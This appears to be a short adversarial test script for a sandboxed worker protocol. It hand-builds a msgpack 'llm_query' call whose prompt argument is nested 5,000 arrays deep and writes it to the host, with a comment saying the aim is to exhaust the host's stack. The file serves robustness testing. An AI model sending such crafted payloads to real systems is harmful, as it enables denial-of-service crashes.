# class: proto
# Calls with an argument nested 5,000 deep, which would exhaust the host's stack.
import os
from guest.worker.msgpack import pack
b=pack({"op":"call","id":9,"function":"llm_query"})
b=b"\x84"+b[1:]+pack("arguments")+b"\x81"+pack("prompt")+b"\x91"*5000+b"\xc0"
os.write(3,len(b).to_bytes(4,"little")+b)
